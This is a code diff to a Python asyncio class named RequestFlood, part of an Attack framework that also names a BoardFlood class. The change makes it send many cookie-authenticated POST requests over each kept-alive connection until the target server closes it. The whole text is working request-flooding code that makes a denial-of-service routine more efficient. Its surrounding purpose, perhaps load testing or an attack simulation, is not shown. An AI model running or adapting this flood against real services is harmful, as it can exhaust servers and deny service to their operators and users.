@@ -40,19 +40,28 @@ class RequestFlood(Attack):
     async def _send(self, address: str, cookie: str, bodies: Iterator[bytes], end: float) -> None:
         while perf_counter() < end:
             try:
-                await self._post(address, cookie, next(bodies), end)
-            except OSError:
+                await self._post(address, cookie, bodies, end)
+            except (OSError, EOFError):
                 await asyncio.sleep(PAUSE_SECONDS)
 
-    async def _post(self, address: str, cookie: str, body: bytes, end: float) -> None:
+    async def _post(self, address: str, cookie: str, bodies: Iterator[bytes], end: float) -> None:
+        """Send requests over one connection until the server closes it."""
         reader, writer = await open_stream(address)
         head = f"POST {self._path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
-        head += f"Cookie: {cookie}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n\r\n"
+        head += f"Cookie: {cookie}\r\nContent-Length: "
         try:
-            writer.write(head.encode() + body)
-            await asyncio.wait_for(reader.read(), max(0.0, end - perf_counter()))
+            while not writer.is_closing():
+                body = next(bodies)
+                writer.write(f"{head}{len(body)}\r\n\r\n".encode() + body)
+                await asyncio.wait_for(read_response(reader), max(0.0, end - perf_counter()))
         finally:
             writer.close()
+
+
+async def read_response(reader: asyncio.StreamReader) -> None:
+    """Read one response; ``EOFError`` if the connection ends."""
+    headers = (await reader.readuntil(b"\r\n\r\n")).lower()
+    await reader.readexactly(int(headers.partition(b"content-length:")[2].split(b"\r\n")[0]))
 
 
 class BoardFlood(Attack):
